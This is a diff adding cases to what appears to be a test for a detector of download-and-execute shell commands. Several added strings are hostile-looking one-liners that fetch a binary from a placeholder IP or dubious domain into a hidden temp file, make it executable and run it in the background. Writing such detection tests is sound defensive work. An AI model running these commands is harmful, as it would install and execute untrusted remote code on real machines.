@@ -30,6 +30,13 @@ URL = "https://get.example.com"
         (f"curl -o data.json {URL}/x && python3 load.py data.json", ""),
         (f"curl -Lo kind {URL}/kind && chmod +x kind && ./kind version", ""),
         ("curl -o x.sh http://localhost:8000/x && bash x.sh", ""),
+        ("curl -so /tmp/.x http://203.0.113.9/x && chmod +x /tmp/.x && /tmp/.x &", "sh"),
+        ("wget -qO x http://dl.cheap.top/x && chmod 755 x && nohup ./x &", "sh"),
+        (f"curl -so /dev/shm/.k {URL}/k && chmod +x /dev/shm/.k && /dev/shm/.k", "sh"),
+        ("curl -o x http://203.0.113.9/x && mv x y && chmod +x y && ./y", "sh"),
+        ("curl -o x http://203.0.113.9/x && sha256sum -c x.sum && ./x", ""),
+        ("curl -o x http://10.0.0.5:8081/x && chmod +x x && ./x", ""),
+        ("curl -so /tmp/.x http://app:8080/health && cat /tmp/.x", ""),
         ("bash x.sh", ""),
     ],
 )
